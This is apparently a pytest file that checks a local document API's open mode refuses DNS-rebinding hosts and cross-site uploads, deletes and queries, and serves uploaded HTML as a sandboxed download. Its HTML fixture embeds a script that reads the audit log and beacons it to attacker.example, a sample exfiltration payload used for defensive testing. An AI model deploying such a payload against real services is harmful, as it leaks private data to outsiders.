"""Open mode (no keys, the `make run` default) is closed to other web sites (issue 14, item 6).

A web page the operator opens can reach a loopback API through the browser: by DNS rebinding (its own name
now resolves to 127.0.0.1, so the browser sends `Host: attacker.example` and lets the page read the answers),
or by a cross-site form post. Both are refused; the console's server-side calls, curl and same-origin pages
still work, and an uploaded page is served as a download that cannot run in the API's origin.
"""

from __future__ import annotations

import os
import subprocess
import sys
from urllib.parse import urlsplit

import httpx
import pytest
from conftest import RESTRICTED_MARKER, doc_id_of

pytestmark = pytest.mark.slow

ATTACKER = "http://attacker.example"
HTML_PAGE = ("<html><head><title>示例区防汛物资清单</title><script>fetch('/v1/audit').then(r => r.text())"
             ".then(t => navigator.sendBeacon('http://attacker.example/', t))</script></head><body>"
             "<h1>示例区防汛物资清单</h1><p>区应急管理局储备冲锋舟12艘，救生衣800件，沙袋5万条。</p></body></html>")


def _restricted_chunk(client: httpx.Client) -> str:
    return f"{doc_id_of(client, '示例区青鸾水库防洪抢险应急预案')}:0"


def test_a_rebound_host_reads_nothing(open_client):
    chunk = _restricted_chunk(open_client)
    own = open_client.get(f"/v1/chunks/{chunk}")
    assert own.status_code == 200 and RESTRICTED_MARKER in own.text  # loopback by its own name: open mode
    port = urlsplit(str(open_client.base_url)).port
    assert open_client.get(f"/v1/chunks/{chunk}", headers={"Host": f"localhost:{port}"}).status_code == 200
    for path in (f"/v1/chunks/{chunk}", "/v1/audit", "/v1/documents", "/healthz"):
        for host in ("attacker.example", f"attacker.example:{port}", "127.0.0.1:1"):
            response = open_client.get(path, headers={"Host": host})
            assert response.status_code == 400, (path, host, response.status_code)
            assert response.json()["error"]["code"] == "host_not_allowed"
            assert RESTRICTED_MARKER not in response.text


def test_cross_site_writes_are_refused(open_client):
    before = open_client.get("/v1/documents").json()
    files = {"files": ("示例区防汛物资清单.html", HTML_PAGE.encode(), "text/html")}
    for headers in ({"Origin": ATTACKER}, {"Origin": "null"}, {"Referer": f"{ATTACKER}/page.html"},
                    {"Sec-Fetch-Site": "cross-site"}, {"Sec-Fetch-Site": "same-site"}):
        upload = open_client.post("/v1/documents", files=files, headers=headers)
        assert upload.status_code == 403 and upload.json()["error"]["code"] == "cross_origin", headers
        delete = open_client.delete(f"/v1/documents/{before[0]['doc_id']}", headers=headers)
        assert delete.status_code == 403, headers
        ask = open_client.post("/v1/ask", json={"question": "防汛"}, headers=headers)
        assert ask.status_code == 403, headers
    assert open_client.get("/v1/documents").json() == before


def test_uploaded_html_is_a_download_that_cannot_run_here(open_client):
    files = {"files": ("示例区防汛物资清单.html", HTML_PAGE.encode(), "text/html")}
    same_origin = {"Origin": str(open_client.base_url).rstrip("/"), "Sec-Fetch-Site": "same-origin"}
    uploaded = open_client.post("/v1/documents", files=files, headers=same_origin)  # a page of the API itself
    assert uploaded.status_code == 200, uploaded.text
    doc_id = uploaded.json()[0]["doc_id"]
    original = open_client.get(f"/v1/documents/{doc_id}/file")
    assert original.status_code == 200
    assert original.headers["content-disposition"].startswith("attachment")
    assert original.headers["x-content-type-options"] == "nosniff"
    policy = original.headers["content-security-policy"]
    assert "default-src 'none'" in policy and "sandbox" in policy
    assert original.content == HTML_PAGE.encode()  # kept verbatim, only never rendered in this origin
    from ui.client import ApiClient

    assert ApiClient(str(open_client.base_url)).file_bytes(doc_id) == HTML_PAGE.encode()  # the console's viewer
    assert open_client.delete(f"/v1/documents/{doc_id}").status_code == 200  # no Origin: curl, the console


@pytest.mark.parametrize("override", [False, True])
def test_an_open_api_does_not_listen_beyond_loopback_without_the_override(tmp_path, override):
    from servers import free_port, start, stop

    port = free_port()
    env = {**os.environ, "PLANASSIST_HOME": str(tmp_path / "home"), "PYTHONUNBUFFERED": "1"}
    env.pop("PLANASSIST_ALLOW_OPEN_REMOTE", None)
    command = [sys.executable, "-m", "assistant.cli", "serve", "--host", "0.0.0.0", "--port", str(port)]
    if not override:
        done = subprocess.run(command, env=env, capture_output=True, text=True, timeout=300)
        assert done.returncode != 0
        assert "PLANASSIST_ALLOW_OPEN_REMOTE" in done.stdout + done.stderr
        return
    process = start(command, f"http://127.0.0.1:{port}/healthz", tmp_path / "serve.log",
                    {**env, "PLANASSIST_ALLOW_OPEN_REMOTE": "1"})
    try:
        assert httpx.get(f"http://127.0.0.1:{port}/v1/me").json()["open_mode"] is True
    finally:
        stop(process)
